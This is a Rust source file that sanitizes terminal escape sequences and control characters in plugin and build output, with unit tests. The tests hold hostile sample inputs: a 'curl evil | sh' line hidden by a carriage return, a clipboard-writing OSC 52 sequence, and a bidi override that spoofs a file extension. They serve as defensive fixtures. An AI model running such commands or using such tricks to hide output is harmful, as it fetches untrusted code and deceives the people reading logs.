//! Text from plugins, steps and image builds, made safe to show.
//!
//! A plugin or a step controls every byte it prints. Shown raw on a
//! terminal, escape sequences could move the cursor, rewrite earlier lines
//! (hiding what ran), set the window title, or (on some terminals) write
//! to the clipboard; in CI logs and `--json` they are noise (`[91m` from
//! the image builder's colours). So every such line loses its escape
//! sequences (CSI, OSC, DCS, charset selections and the rest), and other
//! control characters are shown, never obeyed: `^X` for C0 (a carriage
//! return inside a line is `^M`: text it would hide stays visible; one at
//! the end of a line, CRLF output, is dropped), U+FFFD for C1 and for the
//! bidirectional overrides that reorder what is shown. Tabs stay.

use std::borrow::Cow;

const ESC: char = '\u{1b}';

/// `text` without escape sequences and with control characters visible.
pub fn sanitize(text: &str) -> Cow<'_, str> {
    let harmless = |c: char| {
        !(c.is_control() && c != '\t' && c != '\n'
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c))
    };
    if text.chars().all(harmless) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(text.split('\n').map(line).collect::<Vec<_>>().join("\n"))
}

/// One line without escape sequences, its control characters made visible.
fn line(text: &str) -> String {
    let text = text.trim_end_matches('\r');
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ESC => match chars.next() {
                // CSI: parameters and intermediates, then a final byte.
                Some('[') => skip_while_then_one(&mut chars, |c| ('\u{20}'..='\u{3f}').contains(&c)),
                // OSC, DCS, SOS, PM, APC: a string up to ST (ESC \) or BEL.
                Some(']' | 'P' | 'X' | '^' | '_') => skip_string(&mut chars),
                // nF sequences (ESC ( B selects a charset): intermediates,
                // then a final byte.
                Some(c) if ('\u{20}'..='\u{2f}').contains(&c) => {
                    skip_while_then_one(&mut chars, |c| ('\u{20}'..='\u{2f}').contains(&c))
                }
                // Two-character sequences (ESC c, ESC 7, ESC =, ...).
                Some(_) | None => {}
            },
            '\u{9b}' => skip_while_then_one(&mut chars, |c| ('\u{20}'..='\u{3f}').contains(&c)),
            '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            '\t' => out.push('\t'),
            c if (c as u32) < 0x20 => {
                out.push('^');
                out.push(char::from_u32(c as u32 + 0x40).unwrap_or('?'));
            }
            '\u{7f}' => out.push_str("^?"),
            c if ('\u{80}'..='\u{9f}').contains(&c) => out.push('\u{fffd}'),
            // Bidirectional embeddings, overrides and isolates.
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    out
}

fn skip_while_then_one(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, param: impl Fn(char) -> bool) {
    while chars.peek().is_some_and(|c| param(*c)) {
        chars.next();
    }
    chars.next();
}

fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            ESC if chars.peek() == Some(&'\\') => {
                chars.next();
                return;
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::sanitize;

    #[test]
    fn escapes_go_and_controls_show() {
        assert_eq!(sanitize("plain text\twith a tab"), "plain text\twith a tab");
        assert_eq!(sanitize("\u{1b}[91mbash: error\u{1b}[0m"), "bash: error");
        assert_eq!(sanitize("\u{1b}]0;pwned title\u{7}after"), "after");
        assert_eq!(sanitize("\u{1b}]52;c;ZXZpbA==\u{1b}\\x"), "x", "OSC 52 (clipboard) with ST");
        assert_eq!(sanitize("a\u{1b}[2J\u{1b}[Hb"), "ab", "clear screen, cursor home");
        assert_eq!(sanitize("bell\u{7} back\u{8}space nul\u{0}"), "bell^G back^Hspace nul^@");
        assert_eq!(sanitize("curl evil | sh\rbuilding..."), "curl evil | sh^Mbuilding...", "nothing hidden");
        assert_eq!(sanitize("\u{1b}(Bcharset"), "charset");
        assert_eq!(sanitize("file\u{202e}gpj.exe"), "file\u{fffd}gpj.exe");
        assert_eq!(sanitize("crlf line\r"), "crlf line");
        assert_eq!(sanitize("c1 \u{9b}31mred \u{85}next"), "c1 red \u{fffd}next");
        assert_eq!(sanitize("two\nlines\u{1b}[K"), "two\nlines");
        assert_eq!(sanitize("del\u{7f}"), "del^?");
    }
}
